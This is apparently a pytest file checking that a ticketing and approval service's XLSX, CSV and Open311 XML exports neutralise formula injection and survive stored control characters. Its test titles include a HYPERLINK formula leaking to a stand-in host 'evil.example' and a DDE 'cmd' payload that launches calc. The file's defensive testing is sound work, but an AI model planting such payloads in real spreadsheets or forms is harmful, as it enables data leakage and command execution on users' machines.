"""Exports are safe to open: no cell a client typed runs as a formula, and a row stored with a
control character (before input refused them) neither breaks the XLSX nor Open311's XML.

Read back as a user's spreadsheet would: openpyxl for XLSX (cell types and the raw sheet
XML), the csv module for CSV (OWASP's leading-quote rule).
"""

import csv
import io
import uuid
import xml.etree.ElementTree as ET
import zipfile
from typing import Any

import pytest
from httpx import Response
from openpyxl import load_workbook
from sqlalchemy import update

from app.models.ticket import Ticket
from tests.approval_hall import application_body, make_hall
from tests.conftest import World
from tests.factories import Person, ticket_body

HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click")'
# What a spreadsheet runs or reads as other than text, each typed as a ticket title.
ACTIVE_TITLES = [HYPERLINK, "=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "#N/A"]
CSV_QUOTED = [title for title in ACTIVE_TITLES if title[0] in "=+-@"]


@pytest.fixture
async def operator(world: World) -> Person:
    return await world.user("operator")


async def _file_tickets(world: World, operator: Person, *titles: str, **fields: Any) -> list[Any]:
    created = []
    for title in titles:
        response = await world.as_(operator).post(
            "/api/v1/tickets", json=ticket_body(title=title, **fields)
        )
        assert response.status_code == 201, response.text
        created.append(response.json())
    return created


def _sheet_cells(response: Response) -> list[Any]:
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_no_formula_anywhere(response: Response) -> None:
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def _csv_rows(response: Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _column(rows: list[list[str]], header: str) -> list[str]:
    index = rows[0].index(header)
    return [row[index] for row in rows[1:]]


async def test_every_text_a_client_typed_is_a_string_cell_in_the_ticket_xlsx(
    world: World, operator: Person
) -> None:
    await _file_tickets(world, operator, *ACTIVE_TITLES)
    response = await world.as_(operator).get("/api/v1/tickets/export", params={"format": "xlsx"})
    cells = {cell.value: cell for cell in _sheet_cells(response)}
    for title in ACTIVE_TITLES:
        assert cells[title].data_type == "s", title
    assert all(cell.data_type != "f" for cell in cells.values())
    _assert_no_formula_anywhere(response)


async def test_csv_quotes_a_leading_formula_character_as_owasp_recommends(
    world: World, operator: Person
) -> None:
    await _file_tickets(world, operator, *ACTIVE_TITLES, "-12.50", "普通标题")
    response = await world.as_(operator).get("/api/v1/tickets/export", params={"format": "csv"})
    titles = set(_column(_csv_rows(response), "标题"))
    assert {"'" + title for title in CSV_QUOTED} <= titles
    assert not {title for title in CSV_QUOTED} & titles
    assert {"#N/A", "-12.50", "普通标题"} <= titles  # not a formula in CSV; a plain number


async def test_statistics_exports_neutralise_a_group_named_like_a_formula(
    world: World, operator: Person
) -> None:
    await _file_tickets(world, operator, "占道", location={"address": "x", "district": HYPERLINK})
    api = world.as_(operator)
    params = {"group_by": "district"}
    xlsx = await api.get("/api/v1/stats/tickets/export", params={**params, "format": "xlsx"})
    [group] = [cell for cell in _sheet_cells(xlsx) if cell.value == HYPERLINK]
    assert group.data_type == "s"
    _assert_no_formula_anywhere(xlsx)
    rows = _csv_rows(
        await api.get("/api/v1/stats/tickets/export", params={**params, "format": "csv"})
    )
    assert "'" + HYPERLINK in _column(rows, "分组")


async def test_approval_exports_neutralise_formulas_too(world: World, admin: Person) -> None:
    hall = await make_hall(world, admin)
    applied = await world.as_(hall["clerk"]).post(
        "/api/v1/approvals", json=application_body(title=HYPERLINK)
    )
    assert applied.status_code == 201, applied.text
    api = world.as_(hall["clerk"])
    xlsx = await api.get("/api/v1/approvals/export", params={"format": "xlsx"})
    [title] = [cell for cell in _sheet_cells(xlsx) if cell.value == HYPERLINK]
    assert title.data_type == "s"
    _assert_no_formula_anywhere(xlsx)
    rows = _csv_rows(await api.get("/api/v1/approvals/export", params={"format": "csv"}))
    assert _column(rows, "申请标题") == ["'" + HYPERLINK]


@pytest.fixture
async def stored_with_controls(world: World, app: Any, operator: Person) -> dict[str, Any]:
    """A ticket whose text holds control characters, written below the API (which refuses
    them now), as rows stored before the rule would be."""
    [ticket] = await _file_tickets(world, operator, "占道")
    async with app.state.sessionmaker() as session:
        await session.execute(
            update(Ticket)
            .where(Ticket.id == uuid.UUID(ticket["id"]))  # type: ignore[arg-type]
            .values(
                title="早市\x0b占道\x1b经营",
                content="\t=1+1\x0b",
                address="\r@SUM(A1)",
                district="朝阳\x01区",
            )
        )
        await session.commit()
    return dict(ticket)


async def test_a_stored_control_character_leaves_every_xlsx_whole(
    world: World, operator: Person, stored_with_controls: dict[str, Any]
) -> None:
    api = world.as_(operator)
    values = {cell.value for cell in _sheet_cells(await api.get("/api/v1/tickets/export"))}
    assert "早市\ufffd占道\ufffd经营" in values
    stats = await api.get("/api/v1/stats/tickets/export", params={"group_by": "district"})
    assert "朝阳\ufffd区" in {cell.value for cell in _sheet_cells(stats)}


async def test_a_stored_control_character_is_replaced_and_tab_or_cr_quoted_in_csv(
    world: World, operator: Person, stored_with_controls: dict[str, Any]
) -> None:
    response = await world.as_(operator).get("/api/v1/tickets/export", params={"format": "csv"})
    rows = _csv_rows(response)
    assert _column(rows, "标题") == ["早市\ufffd占道\ufffd经营"]
    assert _column(rows, "诉求内容") == ["'\t=1+1\ufffd"]
    assert _column(rows, "地址") == ["'\r@SUM(A1)"]


async def test_open311_xml_stays_well_formed_with_a_stored_control_character(
    world: World, admin: Person, client: Any, stored_with_controls: dict[str, Any]
) -> None:
    key = await world.as_(admin).post(
        "/api/v1/api-clients", json={"name": "随手拍", "scopes": ["tickets:read"]}
    )
    assert key.status_code == 201, key.text
    response = await client.get(
        "/open311/v2/requests.xml",
        params={
            "api_key": key.json()["api_key"],
            "service_request_id": stored_with_controls["number"],
        },
    )
    assert response.status_code == 200, response.text
    document = ET.fromstring(response.content)
    [request] = document
    assert "\ufffd" in (request.findtext("description") or "")
